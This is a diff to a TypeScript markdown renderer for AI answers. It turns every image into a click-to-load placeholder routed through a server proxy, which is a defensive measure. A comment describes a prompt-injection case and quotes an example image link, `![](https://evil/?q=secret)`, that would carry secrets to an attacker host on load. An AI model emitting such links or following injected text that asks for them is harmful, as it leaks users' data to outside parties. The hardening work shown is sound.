@@ -21,6 +21,8 @@ export interface RenderEnv {
   mathPending?: boolean;
   /** The answer's sources: [n] markers that name one become links (read while parsing). */
   citations?: CitationSet;
+  /** Text of an image's placeholder; `{host}` stands for the image's host. */
+  imageLabel?: string;
 }
 
 export interface FenceInfo {
@@ -30,6 +32,9 @@ export interface FenceInfo {
 
 /** The attribute the React layer looks for to bind copy buttons (event delegation). */
 export const COPY_BUTTON_ATTR = 'data-md-copy';
+
+/** On an image's placeholder: the image's address, loaded only when the user clicks (docs/security.md). */
+export const IMAGE_PLACEHOLDER_ATTR = 'data-md-image';
 
 // Answers repeat the same formulas while a block grows; KaTeX costs far more than markdown-it.
 const KATEX_CACHE_LIMIT = 1000;
@@ -91,7 +96,32 @@ function createMarkdown(): MarkdownIt {
   };
 
   md.renderer.rules.fence = (tokens, idx, _options: MarkdownItOptions, env: RenderEnv) => renderFence(tokens[idx], env);
+  md.renderer.rules.image = (tokens, idx, options, env: RenderEnv, self) =>
+    renderImagePlaceholder(tokens[idx], self.renderInlineAsText(tokens[idx].children ?? [], options, env), env);
   return md;
+}
+
+/**
+ * An image of an answer never loads by itself: its address may carry what the model read (a
+ * prompt-injected `![](https://evil/?q=secret)`), and fetching it would hand that to the host with no
+ * click. It becomes a button naming the host; the view loads it through the server's proxy when
+ * clicked (components/ui/markdown-view.tsx, docs/security.md). Not an http(s) image: its text.
+ */
+function renderImagePlaceholder(token: Token, alt: string, env: RenderEnv): string {
+  const src = token.attrGet('src') ?? '';
+  let host: string;
+  try {
+    const url = new URL(src);
+    if (url.protocol !== 'http:' && url.protocol !== 'https:') return escapeHtml(alt);
+    host = url.host;
+  } catch {
+    return escapeHtml(alt);
+  }
+  const label = (env.imageLabel ?? DEFAULT_IMAGE_LABEL).replace('{host}', () => host);
+  return (
+    `<span class="md-image" ${IMAGE_PLACEHOLDER_ATTR}="${escapeHtml(src)}" data-alt="${escapeHtml(alt)}">` +
+    `<button type="button" class="md-image-load" title="${escapeHtml(src)}">${escapeHtml(label)}</button></span>`
+  );
 }
 
 /** The math token types of the KaTeX plugin; the inline one is the only one that is not a block. */
@@ -140,12 +170,19 @@ const COPY_ICON =
 export const markdown = createMarkdown();
 
 export const DEFAULT_COPY_LABEL = 'Copy code';
+export const DEFAULT_IMAGE_LABEL = 'Load image from {host}';
 
 /**
- * Markdown source in, safe HTML out: no raw HTML, only http(s)/mailto links, math through KaTeX
- * (as source until loadKatex() has resolved), [n] markers of the given sources as superscript links.
+ * Markdown source in, safe HTML out: no raw HTML, only http(s)/mailto links, images as placeholders
+ * that load nothing, math through KaTeX (as source until loadKatex() has resolved), [n] markers of the
+ * given sources as superscript links.
  */
-export function renderMarkdown(text: string, copyLabel: string = DEFAULT_COPY_LABEL, citations?: readonly CitationSource[]): string {
-  const env: RenderEnv = { copyLabel, citations: citationSet(citations) };
+export function renderMarkdown(
+  text: string,
+  copyLabel: string = DEFAULT_COPY_LABEL,
+  citations?: readonly CitationSource[],
+  imageLabel: string = DEFAULT_IMAGE_LABEL,
+): string {
+  const env: RenderEnv = { copyLabel, citations: citationSet(citations), imageLabel };
   return markdown.render(text, env);
 }
